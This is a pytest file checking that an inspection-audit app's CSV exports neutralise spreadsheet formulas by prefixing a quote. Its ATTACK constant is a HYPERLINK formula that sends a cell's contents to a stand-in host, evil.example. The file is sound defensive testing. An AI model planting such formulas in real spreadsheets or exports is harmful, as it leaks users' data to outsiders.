"""CSV exports open in a spreadsheet as text: a cell that would run as a formula is neutralised."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from tests.scenarios import (
    BARKING,
    MODERATOR,
    RI,
    ilacs_2023,
    officer,
    run_to_final_report,
)
from tests.web.conftest import live_inspection
from web.spreadsheet import safe_cell

ATTACK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("Plain words = fine", "Plain words = fine"),
        ("", ""),
        (-1, -1),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell, written):
    assert safe_cell(cell) == written


def test_a_timeline_csv_writes_a_formula_reason_as_text(pages):
    inspection = live_inspection(pages)
    pages.ledger.cancel_inspection(MODERATOR, inspection, ATTACK)
    pages.sign_in("auditor")
    rows = list(csv.DictReader(io.StringIO(pages.get(f"/audit/inspection/{inspection}.csv").text)))
    cancelled = next(r for r in rows if r["event"] == "Cancelled")
    assert cancelled["why"] == "'" + ATTACK
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_the_disputes_csv_writes_a_formula_reference_as_text(pages):
    start = pages.clock.day + timedelta(days=28 - pages.clock.day.weekday())
    inspection = run_to_final_report(
        pages.ledger, pages.clock, BARKING, start, ilacs_2023(*[RI] * 5)
    )
    pages.ledger.lodge_challenge(officer(BARKING), inspection, "report", ATTACK, "-grounds", [])
    pages.sign_in("auditor")
    rows = list(csv.DictReader(io.StringIO(pages.get("/audit/disputes.csv").text)))
    assert "'" + ATTACK in [r["reference"] for r in rows]
    assert len(rows) == 3  # with the story's two challenges
